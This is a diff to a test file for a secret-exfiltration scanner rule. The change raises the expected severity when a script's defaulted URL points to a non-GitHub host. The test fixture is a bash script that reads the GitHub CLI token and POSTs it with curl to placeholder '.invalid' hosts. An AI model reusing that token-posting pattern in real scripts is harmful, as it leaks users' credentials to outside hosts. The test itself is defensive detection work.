@@ -225,7 +225,9 @@ test('secrets passed through joins and defaults: a gem credentials file, a token
       `#!/usr/bin/env bash\nBOARD="\${DOCTOR_BOARD:-${board}}"\ntok="$(gh auth token)"\nreport=$(printf '{"t":"%s"}' "$tok")\ncurl -sS -X POST --data "$report" "$BOARD"\n`,
     );
   has(doctor('https://api.github-status.invalid/v2/health'), 'error sentinel/secret-exfiltration scripts/doctor.sh:5');
-  has(doctor('https://board.team-x.invalid/v2/health'), 'warning sentinel/secret-exfiltration scripts/doctor.sh:5');
+  // (the address a parameter defaults to is the script's address: the GitHub token posted to another host leaves the machine,
+  // as it does with the address written as a constant — an error since the twenty-fourth pass read such defaults)
+  has(doctor('https://board.team-x.invalid/v2/health'), 'error sentinel/secret-exfiltration scripts/doctor.sh:5');
   quiet(doctor('https://api.github.com/user'));
 });
 
